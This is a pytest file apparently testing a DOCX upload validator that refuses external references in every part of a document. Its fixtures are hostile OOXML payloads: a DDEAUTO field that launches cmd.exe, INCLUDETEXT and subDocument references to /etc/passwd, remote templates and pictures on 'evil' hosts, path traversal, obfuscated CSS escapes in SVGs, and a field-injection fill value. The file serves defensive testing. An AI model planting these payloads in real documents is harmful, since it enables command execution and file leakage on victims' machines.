"""Every kind of reference to content outside the package is refused at upload (``external_reference``,
naming the part and a truncated target), in every part; plain hyperlinks stay allowed; a fill cannot
introduce one either."""

from __future__ import annotations

import base64
import io
import re
import zipfile

import pytest

from pipelines.documents.errors import ExternalReference
from pipelines.documents.render import prepare_template, render_docx
from pipelines.documents.validation import validate_docx
from tests.support.documents_external import base_docx, edit, external_picture, png, text_of
from tests.support.api import api  # noqa: F401 - fixture
from tests.documents.test_documents_templates_api import stored_files, upload

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def body(xml: str) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {W} {R} {VML}>'
            f"<w:body>{xml}</w:body></w:document>").encode()


def with_body(xml: str, **parts) -> bytes:
    return edit(base_docx(), **{"word/document.xml": body(xml)}, **parts)


def add_rel(rels_part: str, rel: str):
    def change(old: bytes) -> bytes:
        if not old:
            return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">{rel}</Relationships>'.encode()
        return old.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
    return change


def external(kind: str, target: str, rid: str = "rIdX") -> str:
    return f'<Relationship Id="{rid}" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>'


def settings(inner: str):
    def change(old: bytes) -> bytes:
        return re.sub(rb"(<w:settings[^>]*>)", lambda m: m.group(1) + inner.encode(), old, count=1)
    return change


def complex_field(*instr_runs: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>' for t in instr_runs)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def simple_field(instr: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instr}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


DOC_RELS = "word/_rels/document.xml.rels"
URL = "http://127.0.0.1:8080/x.png"

CASES = {
    "image-rel-embed": (lambda: external_picture(URL), DOC_RELS),
    "image-rel-link": (lambda: external_picture("file:///srv/kiln/.kiln/objects/ws/other/shot.jpg", "r:link"),
                       DOC_RELS),
    "r-href-attribute": (lambda: with_body('<w:p><w:r><w:pict><v:shape r:href="rId1"/></w:pict></w:r></w:p>'),
                         "word/document.xml"),
    "r-link-attribute": (lambda: edit(base_docx(picture=True), **{
        "word/document.xml": lambda old: old.replace(b"r:embed=", b"r:link=")}), "word/document.xml"),
    "attached-template": (lambda: edit(base_docx(), **{
        "word/settings.xml": settings('<w:attachedTemplate r:id="rIdT"/>'),
        "word/_rels/settings.xml.rels": add_rel("", external("attachedTemplate", "http://evil/t.dotm", "rIdT"))}),
        "word/_rels/settings.xml.rels"),
    "subdocument": (lambda: with_body('<w:p/><w:subDoc r:id="rIdS"/>', **{
        DOC_RELS: add_rel(DOC_RELS, external("subDocument", "file:///etc/passwd", "rIdS"))}), DOC_RELS),
    "frame": (lambda: edit(base_docx(), **{
        "word/_rels/webSettings.xml.rels": add_rel("", external("frame", "http://evil/frame.docx"))}),
        "word/_rels/webSettings.xml.rels"),
    "ole-external-rel": (lambda: edit(base_docx(), **{
        DOC_RELS: add_rel(DOC_RELS, external("oleObject", "file:///C:/book.xlsx"))}), DOC_RELS),
    "header-rel": (lambda: edit(base_docx(), **{
        "word/_rels/header1.xml.rels": add_rel("", external("image", URL))}), "word/_rels/header1.xml.rels"),
    "strict-namespace-rel": (lambda: edit(base_docx(), **{DOC_RELS: add_rel(
        DOC_RELS, f'<Relationship Id="rIdQ" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/image" '
                  f'Target="{URL}" TargetMode=" external "/>')}), DOC_RELS),
    "internal-file-url": (lambda: edit(base_docx(), **{DOC_RELS: add_rel(
        DOC_RELS, f'<Relationship Id="rIdF" Type="{RELS}/image" Target="file:///etc/passwd"/>')}), DOC_RELS),
    "internal-climbs-out": (lambda: edit(base_docx(), **{DOC_RELS: add_rel(
        DOC_RELS, f'<Relationship Id="rIdF" Type="{RELS}/image" Target="../../../../etc/x.png"/>')}), DOC_RELS),
    "includepicture-simple": (lambda: with_body(simple_field(f'INCLUDEPICTURE &quot;{URL}&quot; \\d')),
                              "word/document.xml"),
    "includetext-split-lowercase": (lambda: with_body(complex_field(" inclu", "detext ", '"/etc/passwd"')),
                                    "word/document.xml"),
    "link": (lambda: with_body(complex_field('LINK Excel.Sheet.12 "C:\\\\book.xlsx" "Sheet1!R1C1" \\a')),
             "word/document.xml"),
    "dde": (lambda: with_body(simple_field("DDE Excel book.xlsx R1C1")), "word/document.xml"),
    "ddeauto": (lambda: with_body(complex_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /c calc")),
                "word/document.xml"),
    "import": (lambda: with_body(simple_field(f"IMPORT {URL}")), "word/document.xml"),
    "nested-in-mergefield-result": (lambda: with_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 "</w:instrText></w:r>'
        + complex_field("INCLUDEPICTURE ", f'"{URL}"')[5:-6]
        + '<w:r><w:instrText>"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
        "word/document.xml"),
    "field-in-header": (lambda: edit(base_docx(), **{"word/header1.xml": lambda old: old.replace(
        b"<w:t>header</w:t>", b'</w:r><w:fldSimple w:instr="INCLUDETEXT c:\\\\x.docx"><w:r><w:t>h</w:t></w:r>'
        b"</w:fldSimple><w:r><w:t>header</w:t>")}), "word/header1.xml"),
    "field-in-glossary": (lambda: edit(base_docx(), **{
        "word/glossary/document.xml": body(simple_field(f"INCLUDEPICTURE {URL}"))}), "word/glossary/document.xml"),
    "linked-ole-object": (lambda: with_body(
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" '
        'DrawAspect="Content" r:id="rId1" UpdateMode="Always"/></w:object></w:r></w:p>'), "word/document.xml"),
    "altchunk": (lambda: with_body('<w:altChunk r:id="rIdA"/><w:p/>', **{
        DOC_RELS: add_rel(DOC_RELS, f'<Relationship Id="rIdA" Type="{RELS}/aFChunk" Target="chunk.html"/>'),
        "word/chunk.html": b'<html><img src="http://evil/x.png"></html>'}), "word/document.xml"),
    "vml-o-href": (lambda: with_body(
        f'<w:p><w:r><w:pict><v:shape><v:imagedata o:href="{URL}" o:title=""/></v:shape></w:pict></w:r></w:p>'),
        "word/document.xml"),
    "vml-src-file": (lambda: with_body(
        '<w:p><w:r><w:pict><v:shape><v:imagedata src="file:///srv/objects/shot.jpg"/></v:shape></w:pict></w:r></w:p>'),
        "word/document.xml"),
    "mail-merge-source": (lambda: edit(base_docx(), **{"word/settings.xml": settings(
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\\\data.xlsx"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge>')}), "word/settings.xml"),
    "link-styles": (lambda: edit(base_docx(), **{"word/settings.xml": settings("<w:linkStyles/>")}),
                    "word/settings.xml"),
    "hyperlink-rel-used-as-picture": (lambda: edit(external_picture(URL), **{DOC_RELS: lambda old: old.replace(
        f"{RELS}/image".encode(), f"{RELS}/hyperlink".encode())}), "word/document.xml"),
    "footnote-field": (lambda: edit(base_docx(), **{"word/footnotes.xml": (
        f'<?xml version="1.0"?><w:footnotes {W}><w:footnote w:id="1">{simple_field("INCLUDEPICTURE " + URL)}'
        "</w:footnote></w:footnotes>").encode()}), "word/footnotes.xml"),
}


@pytest.mark.parametrize("case", CASES, ids=list(CASES))
def test_each_kind_of_external_reference_is_refused_at_validation(case):
    build, part = CASES[case]
    with pytest.raises(ExternalReference) as caught:
        validate_docx(build())
    assert caught.value.code == "external_reference" and caught.value.http_status == 422
    assert caught.value.extra["part"] == part, caught.value.message
    assert part in caught.value.message


def test_the_target_is_truncated_in_the_message():
    huge = "http://evil.example/" + "a" * 100_000
    with pytest.raises(ExternalReference) as caught:
        validate_docx(external_picture(huge))
    assert len(caught.value.message) < 600 and caught.value.extra["target"].startswith("http://evil.example/aaa")
    assert len(caught.value.extra["target"]) <= 210


def test_plain_hyperlinks_are_allowed():
    data = with_body('<w:p><w:hyperlink r:id="rIdH"><w:r><w:t>site</w:t></w:r></w:hyperlink></w:p>'
                     + simple_field('HYPERLINK &quot;https://example.com&quot;'), **{
                         DOC_RELS: add_rel(DOC_RELS, external("hyperlink", "https://example.com", "rIdH"))})
    validate_docx(data)


def test_upload_answers_422_with_part_and_target_and_keeps_nothing(api):  # noqa: F811 - fixture
    owner = api.tenant()
    r = upload(api, owner, external_picture(URL))
    assert r.status_code == 422, r.text
    problem = r.json()
    assert problem["code"] == "external_reference"
    assert problem["part"] == DOC_RELS and problem["target"] == URL
    assert stored_files(api) == []


def test_a_fill_cannot_introduce_an_external_reference():
    """Values are escaped text; a template that builds a field at fill time (``|safe``) is caught."""
    field = '</w:t></w:r><w:fldSimple w:instr="INCLUDEPICTURE http://evil/x.png"/><w:r><w:t>'
    template = prepare_template(with_body('<w:p><w:r><w:t>{{ name }}</w:t></w:r></w:p>'))
    filled = render_docx(template, {"name": field})
    validate_docx(filled)  # the value arrived as text: still a clean document
    assert field in text_of(filled)

    sneaky = prepare_template(with_body('<w:p><w:r><w:t>{{ name|safe }}</w:t></w:r></w:p>'))
    with pytest.raises(ExternalReference):
        render_docx(sneaky, {"name": field})
    in_header = prepare_template(edit(base_docx(), **{"word/header1.xml": lambda old: old.replace(
        b">header<", b">{{ name|safe }}<")}))
    with pytest.raises(ExternalReference) as caught:
        render_docx(in_header, {"name": field})
    assert caught.value.extra["part"] == "word/header1.xml"


def test_an_image_value_is_embedded_never_linked():
    template = prepare_template(with_body('<w:p><w:r><w:t>{{ logo }}</w:t></w:r></w:p>'))
    filled = render_docx(template, {"logo": "data:image/png;base64," + base64.b64encode(png()).decode()})
    validate_docx(filled)
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        rels = archive.read(DOC_RELS)
        assert any(n.startswith("word/media/") for n in archive.namelist())
    assert b"External" not in rels


def _with_svg(svg: str) -> bytes:
    return edit(base_docx(picture=True), **{"word/media/picture.svg": svg.encode(), DOC_RELS: add_rel(
        DOC_RELS, f'<Relationship Id="rIdSvg" Type="{RELS}/image" Target="media/picture.svg"/>')})


@pytest.mark.parametrize("svg", [
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:8080/x.png"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<image xlink:href="file:///srv/objects/shot.jpg"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>rect { fill: url(http://evil/x.svg#p) }</style></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "http://evil/x.css";</style></svg>',
], ids=["href", "xlink-file", "css-url", "css-import"])
def test_svg_pictures_that_reach_out_are_refused(svg):
    with pytest.raises(ExternalReference) as caught:
        validate_docx(_with_svg(svg))
    assert caught.value.extra["part"] == "word/media/picture.svg"


def test_svg_pictures_with_inline_data_are_fine():
    validate_docx(_with_svg('<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/png;base64,iVBOR"/>'
                            '<use href="#a"/><rect style="fill: url(#grad)"/></svg>'))


def test_document_text_mentioning_css_is_fine():
    validate_docx(with_body('<w:p><w:r><w:t>Use @import and url(http://example.com) in CSS</w:t></w:r></w:p>'))


def _with_svg_bytes(data: bytes) -> bytes:
    return edit(base_docx(picture=True), **{"word/media/picture.svg": data, DOC_RELS: add_rel(
        DOC_RELS, f'<Relationship Id="rIdSvg" Type="{RELS}/image" Target="media/picture.svg"/>')})


@pytest.mark.parametrize("style", [
    r"rect { fill: \75 rl(http://evil/x.svg#p) }",  # CSS hex escape
    r"rect { fill: u\72 l(//evil/x.svg#p) }",
    r"rect { fill: \u\r\l(file:///srv/objects/shot.jpg) }",  # CSS identity escapes
    r"@\69 mport 'http://evil/x.css';",
], ids=["hex-escape", "hex-escape-middle", "identity-escapes", "escaped-import"])
def test_css_escapes_do_not_hide_a_reference(style):
    with pytest.raises(ExternalReference):
        validate_docx(_with_svg(f'<svg xmlns="http://www.w3.org/2000/svg"><style>{style}</style></svg>'))


def test_style_attributes_and_utf16_pictures_are_read_decoded():
    with pytest.raises(ExternalReference):
        validate_docx(_with_svg('<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(http://evil/p)"/></svg>'))
    svg = ('<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/2000/svg">'
           '<style>rect { fill: url(http://evil/x.svg#p) }</style></svg>').encode("utf-16")
    with pytest.raises(ExternalReference):
        validate_docx(_with_svg_bytes(svg))


def test_style_scanning_is_linear_on_hostile_whitespace():
    import time

    for filler in (" " * 1_000_000, "\\20 " * 200_000):
        svg = f'<svg xmlns="http://www.w3.org/2000/svg"><style>url({filler}x</style></svg>'
        started = time.perf_counter()
        validate_docx(_with_svg(svg))  # not a reference: allowed, and answered quickly
        assert time.perf_counter() - started < 3.0
